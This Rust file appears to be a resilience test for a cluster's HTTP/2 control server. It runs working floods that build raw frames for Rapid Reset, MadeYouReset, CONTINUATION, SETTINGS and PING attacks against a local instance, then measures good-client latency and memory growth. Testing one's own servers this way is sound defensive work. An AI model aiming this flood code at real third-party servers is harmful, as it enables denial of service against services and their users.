//! D19: HTTP/2 as no client speaks it: streams that are opened and reset (CVE-2023-44487) or made to be reset
//! (CVE-2025-8671), headers that go on and on (CVE-2024-27316), settings and pings without end. Agents reach an edge by
//! HTTP/1.1; control takes HTTP/2 from edges, ledgers and the admin API, and is what is attacked here.

use super::{System, Tail};
use crate::bench;
use crate::bench_mcp::resident_kb;
use crate::cluster::Options;
use anyhow::{Context, ensure};
use clap::ValueEnum;
use reqwest::Method;
use std::net::{Ipv4Addr, SocketAddr};
use std::time::{Duration, Instant};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::process::Child;
use tokio::task::JoinSet;

/// How much.
#[derive(Clone, Copy, Debug)]
pub struct Plan {
    /// Connections of each attack, one after the other of those that are closed.
    pub connections: usize,
    /// Good requests before, and during each attack.
    pub requests: usize,
    /// What a machine with other work may add to the good clients' p99.
    pub jitter: Duration,
}

/// What was seen.
#[derive(Clone, Debug)]
pub struct Report {
    /// Good requests before.
    pub quiet: Tail,
    /// Good requests during each attack.
    pub attacked: Vec<(Attack, Tail)>,
    /// What control's memory grew by, in kB.
    pub grown_kb: u32,
}

/// What is sent without end.
#[derive(Clone, Copy, PartialEq, Eq, Debug, ValueEnum)]
pub enum Attack {
    /// A request, and its reset.
    RapidReset,
    /// A request, and a window that makes the server reset it.
    MadeReset,
    /// Headers that never end.
    Continuation,
    /// Settings, each of which has to be acknowledged.
    Settings,
    /// Pings, each of which has to be answered.
    Ping,
}

const ATTACKS: [Attack; 5] = [
    Attack::RapidReset,
    Attack::MadeReset,
    Attack::Continuation,
    Attack::Settings,
    Attack::Ping,
];
/// Most that control's memory may grow, in kB.
const GROWN_KB_MAX: u32 = 32 * 1024;
/// Frames that are written at once.
const BATCH: u32 = 64;

/// Runs it.
///
/// # Errors
/// If good requests are not served as they should be, or control grows.
pub async fn run(plan: Plan) -> anyhow::Result<Report> {
    let system = System::start(Options::default()).await?;
    let report = all(&system, plan).await;
    let log = system.cluster.dir.path().join("control.log");
    let log = std::fs::read_to_string(log).unwrap_or_default();
    let whole = system.is_whole().await;
    system.cluster.stop().await;
    whole?;
    ensure!(!log.contains("panicked"), "something panicked: {log}");
    report
}

async fn all(system: &System, plan: Plan) -> anyhow::Result<Report> {
    let control = system.cluster.control_url.strip_prefix("http://");
    let control: SocketAddr = control.context("control's address")?.parse()?;
    let pid = system.cluster.control.pid().context("control runs")?;
    good(system, plan).await?;
    let quiet = good(system, plan).await?;
    let before = resident_kb(pid)?;
    let mut attacked = Vec::new();
    for attack in ATTACKS {
        let attackers = attackers(control, attack, plan.connections).await?;
        let tail = good(system, plan).await;
        drop(attackers);
        let tail = tail.with_context(|| format!("{attack:?}, {}", system.logs()))?;
        attacked.push((attack, tail));
    }
    for (attack, tail) in &attacked {
        tail.judge(quiet, plan.jitter)
            .with_context(|| format!("{attack:?} of {attacked:?}"))?;
    }
    let grown_kb = resident_kb(pid)?.saturating_sub(before);
    ensure!(grown_kb < GROWN_KB_MAX, "control grew by {grown_kb} kB");
    Ok(Report {
        quiet,
        attacked,
        grown_kb,
    })
}

/// The admin API asks control for each.
async fn good(system: &System, plan: Plan) -> anyhow::Result<Tail> {
    let mut times = Vec::new();
    for _ in 0..plan.requests {
        let began = Instant::now();
        system
            .cluster
            .acme(Method::GET, "kill-switches", None)
            .await?;
        times.push(began.elapsed());
    }
    Tail::of(times)
}

/// A process that attacks until it is dropped: as whoever attacks it takes no time from the system but by what it sends.
async fn attackers(to: SocketAddr, attack: Attack, connections: usize) -> anyhow::Result<Child> {
    let attack = attack.to_possible_value().context("its name")?;
    let connections = connections.to_string();
    let to = to.to_string();
    let arguments = ["flood", "--to", &to, "--connections", &connections];
    let (attackers, _) = bench::elsewhere(&[&arguments[..], &[attack.get_name()]].concat()).await?;
    Ok(attackers)
}

/// Attacks on so many connections at once, on a new one whenever one is closed.
///
/// # Errors
/// None: it goes on until it is killed.
pub async fn flood(to: SocketAddr, attack: Attack, connections: usize) -> anyhow::Result<()> {
    let mut attacking = JoinSet::new();
    for _ in 0..connections {
        attacking.spawn(async move {
            loop {
                // It is closed sooner or later: that is what is hoped for.
                let _ = connection(to, attack).await;
                tokio::task::yield_now().await;
            }
        });
    }
    attacking.join_all().await;
    Ok(())
}

/// Where attackers come from: good clients have another address.
const ELSEWHERE: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 66);

async fn dial(to: SocketAddr) -> anyhow::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    // Closed ones keep their ports for a while.
    socket.set_reuseaddr(true)?;
    socket.bind((ELSEWHERE, 0).into())?;
    Ok(socket.connect(to).await?)
}

const DATA_END: u8 = 0x1;
const HEADERS_END: u8 = 0x4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default();
    let mut frame = length.to_be_bytes().get(1..).unwrap_or_default().to_vec();
    frame.extend_from_slice(&[kind, flags]);
    frame.extend_from_slice(&stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}

/// `POST /` over http to `a`, from HPACK's static table.
const REQUEST: [u8; 6] = [0x83, 0x86, 0x84, 0x41, 0x01, b'a'];

async fn connection(to: SocketAddr, attack: Attack) -> anyhow::Result<()> {
    let mut stream = dial(to).await?;
    let (mut reader, mut writer) = stream.split();
    let mut preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    preface.extend(frame(0x4, 0, 0, &[]));
    if attack == Attack::Continuation {
        preface.extend(frame(0x1, 0, 1, &REQUEST));
    }
    let writing = async {
        writer.write_all(&preface).await?;
        let mut number = 0_u32;
        loop {
            let mut batch = Vec::new();
            for _ in 0..BATCH {
                let id = number.wrapping_mul(2).wrapping_add(1) & 0x7fff_ffff;
                number = number.wrapping_add(1);
                batch.extend(piece(attack, id));
            }
            writer.write_all(&batch).await?;
        }
    };
    // What it says is taken and thrown away.
    let mut said = [0; 4096];
    let reading = async { while reader.read(&mut said).await.is_ok_and(|count| count > 0) {} };
    tokio::select! {
        ended = writing => ended,
        () = reading => Ok(()),
    }
}

fn piece(attack: Attack, id: u32) -> Vec<u8> {
    match attack {
        Attack::RapidReset => {
            let mut both = frame(0x1, HEADERS_END | DATA_END, id, &REQUEST);
            both.extend(frame(0x3, 0, id, &8_u32.to_be_bytes()));
            both
        }
        Attack::MadeReset => {
            let mut both = frame(0x1, HEADERS_END, id, &REQUEST);
            both.extend(frame(0x8, 0, id, &0_u32.to_be_bytes()));
            both
        }
        // A header of its own in each, never indexed.
        Attack::Continuation => {
            let mut block = vec![0x10, 0x05];
            block.extend_from_slice(b"x-any");
            block.push(0x7f);
            // 127 and 873: a thousand bytes.
            block.extend_from_slice(&[0xe9, 0x06]);
            block.resize(block.len().saturating_add(1000), b'x');
            frame(0x9, 0, 1, &block)
        }
        Attack::Settings => frame(0x4, 0, 0, &[0, 1, 0, 0, 0x10, 0]),
        Attack::Ping => frame(0x6, 0, 0, b"are you?"),
    }
}
